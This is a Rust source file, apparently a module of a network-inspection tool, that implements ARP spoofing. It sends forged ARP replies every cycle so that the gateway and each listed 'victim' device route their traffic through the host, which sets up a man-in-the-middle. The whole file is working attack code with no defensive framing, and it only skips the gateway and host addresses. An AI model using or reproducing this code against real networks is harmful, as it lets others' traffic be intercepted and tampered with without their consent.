//! ARP spoofer (§4.H): the poisoning half of the man-in-the-middle. Runs at
//! most every 10s, and only while inspection is enabled, sending forged ARP
//! replies that make the gateway believe the host is each victim and each
//! victim believe the host is the gateway.

use std::net::Ipv4Addr;

use pnet::datalink::{self, Channel};
use pnet::packet::arp::{ArpHardwareTypes, ArpOperations, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
use pnet::packet::Packet;
use pnet::util::MacAddr;
use tracing::{debug, warn};

use crate::state::AppState;
use crate::store::devices;

const ARP_REPLY_LEN: usize = 42;

fn send_arp_reply(
    interface_name: &str,
    src_mac: MacAddr,
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> anyhow::Result<()> {
    let interfaces = datalink::interfaces();
    let interface = interfaces
        .iter()
        .find(|i| i.name == interface_name)
        .ok_or_else(|| anyhow::anyhow!("interface {interface_name} not found"))?;

    let (mut tx, _rx) = match datalink::channel(interface, Default::default())? {
        Channel::Ethernet(tx, rx) => (tx, rx),
        _ => anyhow::bail!("unsupported datalink channel type on {interface_name}"),
    };

    let mut ethernet_buffer = [0u8; ARP_REPLY_LEN];
    let mut ethernet_packet = MutableEthernetPacket::new(&mut ethernet_buffer)
        .ok_or_else(|| anyhow::anyhow!("failed to build ethernet frame"))?;
    ethernet_packet.set_destination(target_mac);
    ethernet_packet.set_source(src_mac);
    ethernet_packet.set_ethertype(EtherTypes::Arp);

    let mut arp_buffer = [0u8; 28];
    let mut arp_packet =
        MutableArpPacket::new(&mut arp_buffer).ok_or_else(|| anyhow::anyhow!("failed to build ARP payload"))?;
    arp_packet.set_hardware_type(ArpHardwareTypes::Ethernet);
    arp_packet.set_protocol_type(EtherTypes::Ipv4);
    arp_packet.set_hw_addr_len(6);
    arp_packet.set_proto_addr_len(4);
    arp_packet.set_operation(ArpOperations::Reply);
    arp_packet.set_sender_hw_addr(sender_mac);
    arp_packet.set_sender_proto_addr(sender_ip);
    arp_packet.set_target_hw_addr(target_mac);
    arp_packet.set_target_proto_addr(target_ip);

    ethernet_packet.set_payload(arp_packet.packet());

    tx.send_to(ethernet_packet.packet(), None)
        .ok_or_else(|| anyhow::anyhow!("no send implementation for {interface_name}"))??;

    Ok(())
}

/// One spoofing cycle (§4.H steps 1-4).
pub async fn tick(state: &AppState) -> anyhow::Result<()> {
    if !state.is_inspecting() {
        return Ok(());
    }

    let Some(gateway_mac_str) = devices::gateway_mac(&state.store).await? else {
        debug!("gateway MAC not yet known, skipping spoof cycle");
        return Ok(());
    };
    let gateway_mac: MacAddr = gateway_mac_str
        .parse()
        .map_err(|_| anyhow::anyhow!("stored gateway MAC {gateway_mac_str} is not parseable"))?;

    let network = state.network_snapshot().await;
    let victims = devices::inspected_victims(&state.store).await?;

    for victim in victims {
        if victim.ip_address == network.gateway_ip.to_string()
            || victim.ip_address == network.host_ip.to_string()
            || victim.mac_address == network.host_mac.to_string()
        {
            continue;
        }

        let victim_mac: MacAddr = match victim.mac_address.parse() {
            Ok(mac) => mac,
            Err(_) => continue,
        };
        let victim_ip: Ipv4Addr = match victim.ip_address.parse() {
            Ok(ip) => ip,
            Err(_) => continue,
        };

        if !state.is_inspecting() {
            break;
        }

        // To the gateway: psrc=victim_ip, hwsrc=host_mac, pdst=gateway_ip, hwdst=gateway_mac.
        if let Err(err) = send_arp_reply(
            &network.interface_name,
            network.host_mac,
            network.host_mac,
            victim_ip,
            gateway_mac,
            network.gateway_ip,
        ) {
            warn!(victim = victim.mac_address, error = %err, "spoof-to-gateway send failed");
            continue;
        }

        // To the victim: psrc=gateway_ip, hwsrc=host_mac, pdst=victim_ip, hwdst=victim_mac.
        if let Err(err) = send_arp_reply(
            &network.interface_name,
            network.host_mac,
            network.host_mac,
            network.gateway_ip,
            victim_mac,
            victim_ip,
        ) {
            warn!(victim = victim.mac_address, error = %err, "spoof-to-victim send failed");
            continue;
        }

        debug!(victim = victim.mac_address, "ARP spoof cycle sent for victim");
    }

    Ok(())
}
